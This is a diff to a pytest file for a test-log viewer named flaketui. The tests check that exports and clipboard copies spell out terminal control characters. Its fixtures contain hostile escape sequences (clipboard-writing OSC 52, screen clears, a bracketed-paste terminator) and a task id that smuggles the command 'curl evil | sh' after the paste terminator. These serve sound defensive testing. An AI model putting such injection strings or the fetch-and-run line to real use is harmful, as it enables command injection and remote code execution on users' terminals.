@@ -17,7 +17,7 @@ from flaketui.cli import main
 from flaketui.sanitize import visible
 from flaketui.triage import TriageKey, TriageStore
 from tests.conftest import SIZE
-from tests.helpers.hostile import HOSTILE_NAMES, HOSTILE_RUNS, raw_controls, write_hostile_log
+from tests.helpers.hostile import HOSTILE_NAMES, HOSTILE_RUNS, markdown_read, raw_controls, write_hostile_log
 
 PASTE_END = "\x1b[201~"
 """The bracketed-paste terminator: pasted raw, what follows it runs as typed commands."""
@@ -31,6 +31,7 @@ def invoke(*args: object) -> tuple[int, str, str]:
 
 
 def test_triage_export_markdown_spells_out_notes_and_names(tmp_path: Path) -> None:
+    """triage export's Markdown spells out control characters in notes and names."""
     log = write_hostile_log(tmp_path / "hostile.jsonl")
     sidecar = tmp_path / "notes.triage.json"
     store = TriageStore.open(sidecar)
@@ -42,8 +43,9 @@ def test_triage_export_markdown_spells_out_notes_and_names(tmp_path: Path) -> No
     code, out, err = invoke("triage", "export", log, "--triage", sidecar)
     assert code == 0, err
     assert raw_controls(out) == [] and raw_controls(err) == []
-    assert "\\x1b]52;c;ZXZpbA==\\x07" in out and "\\x1b[201~" in out
-    assert "\\x1b]0;gone\\x07" in out  # the other notes too
+    read = markdown_read(out)  # Markdown escapes undone: what a reader of the rendered comment sees
+    assert "\\x1b]52;c;ZXZpbA==\\x07" in read and "\\x1b[201~" in read
+    assert "\\x1b]0;gone\\x07" in read  # the other notes too
 
 
 def test_triage_export_names_a_hostile_file_spelled_out(tmp_path: Path) -> None:
@@ -58,6 +60,7 @@ def test_triage_export_names_a_hostile_file_spelled_out(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("raw", [False, True])
 def test_the_trial_csv_header_spells_out_metric_names(tmp_path: Path, raw: bool) -> None:
+    """The trial CSV header spells out control characters in metric names."""
     log = tmp_path / "metrics.jsonl"
     metrics = {"m \x1b[2J": 1.0, "cr\rname": 2.0, "osc\x1b]52;c;AAAA\x07": 3.0}
     log.write_text("".join(json.dumps({"task": name, "trial": t, "passed": t % 2 == 0, "metrics": metrics}) + "\n"
@@ -79,6 +82,7 @@ def test_the_trial_csv_header_spells_out_metric_names(tmp_path: Path, raw: bool)
 
 
 def test_the_trial_csv_on_a_terminal_spells_out_the_header_even_raw(tmp_path: Path) -> None:
+    """On a terminal the trial CSV's header is spelled out even with --raw."""
     from flaketui.loading import load_logs
     from flaketui.output.trials import trials_csv_chunks
 
@@ -88,7 +92,9 @@ def test_the_trial_csv_on_a_terminal_spells_out_the_header_even_raw(tmp_path: Pa
     assert raw_controls(text) == [] and "metric_m \\x1b[2J" in text
 
 
+@pytest.mark.ui
 async def test_y_copies_the_visible_form_of_a_hostile_id(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """y copies the visible form of a hostile task id."""
     log = tmp_path / "paste.jsonl"
     evil = f"task{PASTE_END}; curl evil | sh\n"
     log.write_text("".join(json.dumps({"task": name, "trial": t, "passed": t == 0}) + "\n"
